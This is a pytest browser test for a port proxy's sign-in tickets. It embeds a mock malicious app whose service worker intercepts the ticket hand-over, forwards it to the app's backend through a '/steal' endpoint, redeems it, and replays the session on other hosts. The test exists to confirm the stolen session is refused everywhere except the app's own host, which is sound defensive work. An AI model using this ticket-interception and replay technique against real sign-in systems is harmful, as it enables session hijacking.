"""The sign-in ticket attacks of the security review, in a real browser (issue 17).

An app served on a proxy host owns that origin: its service worker's scope covers
`/.portproxy/` there too, so it can catch the ticket the main host hands its host and
redeem it from the app's backend. What it gets must be worth no more than what it
already had: a session for its own host, refused on the main host and every other host.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from tests.browser.harness import Process, Processes
from tests.support import free_port

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

pytestmark = pytest.mark.browser

PASSWORD = "browser-test-password"

# The app: its page registers a service worker for its whole origin, then sends the
# browser for a fresh ticket; the worker answers the ticket hand-over itself, passing
# the URL to the backend, which redeems it and tries the session it got everywhere.
EVIL_APP = r'''
import http.client, json, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ME, PP, OTHER = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
PAGE = b"""<!doctype html><title>innocent app</title><p id=s>loading</p><script>
(async () => {
  await navigator.serviceWorker.register('/sw.js', {scope: '/'});
  await navigator.serviceWorker.ready;
  if (!navigator.serviceWorker.controller) { location.reload(); return; }
  document.getElementById('s').textContent = 'worker active';
  location.href = 'http://localhost:%d/.portproxy/ticket?to='
    + encodeURIComponent(location.origin + '/after');
})();
</script>""" % PP
SW = b"""self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  const u = new URL(e.request.url);
  if (u.pathname.toLowerCase().startsWith('/.portproxy/ticket/accept')) {
    e.respondWith(fetch('/steal?u=' + encodeURIComponent(u.href)).then(r => r.text())
      .then(t => new Response('<pre id=stolen>' + t + '</pre>',
                              {headers: {'content-type': 'text/html'}})));
  }
});"""

def status(host, path, cookie):
    c = http.client.HTTPConnection("127.0.0.1", PP, timeout=10)
    c.request("GET", path, headers={"Host": host, "Cookie": cookie, "Accept": "text/html"})
    r = c.getresponse(); r.read()
    return r.status, r.getheader("set-cookie") or ""

class H(BaseHTTPRequestHandler):
    def send(self, body, ctype):
        self.send_response(200); self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        if self.path == "/sw.js":
            return self.send(SW, "text/javascript")
        if self.path.startswith("/steal?u="):
            url = urllib.parse.urlsplit(urllib.parse.unquote(self.path[len("/steal?u="):]))
            code, set_cookie = status(url.netloc, url.path + "?" + url.query, "")
            cookie = set_cookie.split(";")[0]
            out = {"redeemed": code, "cookie": bool(cookie)}
            for name, host, path in [
                ("own host", url.netloc, "/"),
                ("main home", "localhost:%d" % PP, "/"),
                ("main path route", "localhost:%d" % PP, "/proxy/%d/" % OTHER),
                ("other proxy host", "%d.localhost:%d" % (OTHER, PP), "/"),
            ]:
                out[name] = status(host, path, cookie)[0]
            return self.send(json.dumps(out).encode(), "text/plain")
        return self.send(PAGE, "text/html")
    def log_message(self, *args):
        pass

ThreadingHTTPServer(("127.0.0.1", ME), H).serve_forever()
'''


def _evil_app(processes: Processes, proxy: Process, other: Process) -> Process:
    script = Path(processes.workdir) / "evil_app.py"
    script.write_text(EVIL_APP, encoding="utf-8")
    port = free_port()
    argv = [sys.executable, str(script), str(port), str(proxy.port), str(other.port)]
    return processes.start("evil-app", argv, port=port)


def test_an_apps_service_worker_that_steals_its_hosts_ticket_gets_that_host_only(
    processes: Processes, new_context: Callable[..., BrowserContext]
) -> None:
    other = processes.static_app("other", "<!doctype html><p id=app>other page</p>")
    proxy = processes.portproxy("--proxy-domain", "localhost", env={"PASSWORD": PASSWORD})
    evil = _evil_app(processes, proxy, other)
    page = new_context().new_page()
    page.goto(f"http://localhost:{proxy.port}/login")
    page.fill("input[type=password]", PASSWORD)
    with page.expect_navigation():
        page.press("input[type=password]", "Enter")
    assert urlsplit(page.url).path != "/login", "the password was not accepted"

    # The victim opens the app once; the app does the rest. Its script navigates on
    # its own (a reload, then the ticket trip), maybe before "load": wait for the end.
    page.goto(f"http://{evil.port}.localhost:{proxy.port}/", wait_until="commit")
    page.wait_for_selector("#stolen")
    stolen = json.loads(page.locator("#stolen").inner_text())

    # The app can act within its own host (it serves that origin anyway)...
    assert stolen["redeemed"] == 302 and stolen["cookie"], (stolen, proxy.log())
    assert stolen["own host"] == 200
    # ...and nowhere else: every other place asks for a sign-in.
    for where in ("main home", "main path route", "other proxy host"):
        assert stolen[where] == 302, (where, stolen)
